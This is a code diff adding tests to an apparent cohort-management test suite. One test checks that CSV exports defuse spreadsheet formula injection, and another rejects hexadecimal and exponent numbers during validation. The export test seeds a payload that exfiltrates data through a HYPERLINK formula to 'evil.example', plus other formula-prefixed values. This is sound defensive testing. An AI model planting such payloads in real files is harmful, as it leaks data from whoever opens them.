@@ -394,6 +394,49 @@ describe('membership characteristic, distribution, export', () => {
     expect(rows.map((r) => r.student_id).sort()).toEqual(sorted(ref.members(P, rules)));
     expect(rows[0]!.email).toBe(studentEmailOf(rows[0]!.student_id!));
   });
+
+  it('exports names and ids that start like a formula as text, not as live formulas', async () => {
+    const rules: RefRule[] = [{ characteristic: 'disability', operation: 'equal to', value: 'Y' }];
+    const cohort = await createGroup(coachA, 'Export formulas', rules);
+    const [a, b, c] = sorted(ref.members(P, rules));
+    const evil: Array<[string, string, string]> = [
+      [a!, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '+1'],
+      [b!, '@SUM(1+1)', '-2'],
+      [c!, '\tTab', '\rCR'],
+    ];
+    const saved = await ctx.database.query<{ email: string; name: string; external_id: string | null }>(
+      'select email, name, external_id from users where email = any($1::text[])',
+      [evil.map(([id]) => studentEmailOf(id))],
+    );
+    try {
+      for (const [id, name, externalId] of evil) {
+        await ctx.database.query('update users set name = $2, external_id = $3 where email = $1', [
+          studentEmailOf(id),
+          name,
+          externalId,
+        ]);
+      }
+      const res = await staff.get(API.cohortUsersCsv(coachA, cohort.id));
+      expect(res.status).toBe(200);
+      const rows = parse(res.text, { columns: true }) as Array<Record<string, string>>;
+      const byEmail = new Map(rows.map((r) => [r.email, r]));
+      expect(byEmail.get(studentEmailOf(a!))).toMatchObject({
+        name: `'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`,
+        student_id: "'+1",
+      });
+      expect(byEmail.get(studentEmailOf(b!))).toMatchObject({ name: "'@SUM(1+1)", student_id: "'-2" });
+      expect(byEmail.get(studentEmailOf(c!))).toMatchObject({ name: "'\tTab", student_id: "'\rCR" });
+      // No cell of the file starts with a formula character.
+      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      for (const row of saved)
+        await ctx.database.query('update users set name = $2, external_id = $3 where email = $1', [
+          row.email,
+          row.name,
+          row.external_id,
+        ]);
+    }
+  });
 });
 
 describe('validation', () => {
@@ -445,6 +488,14 @@ describe('validation', () => {
       { characteristic: 'num_of_prev_attempts', operation: 'equal to', value: 'two' },
       { value: ['Enter a number.'] },
     ],
+    // Number() would read these as 16, 1000, 2 and 0: only plain decimal numbers are numbers.
+    ...['0x10', '1e3', '0b10', 'Infinity'].map(
+      (value): [string, Record<string, unknown>, Record<string, unknown>] => [
+        `not a decimal number (${value})`,
+        { characteristic: 'studied_credits', operation: 'greater than', value },
+        { value: ['Enter a number.'] },
+      ],
+    ),
     [
       'value outside the restriction set',
       { characteristic: 'gender', operation: 'equal to', value: 'X' },
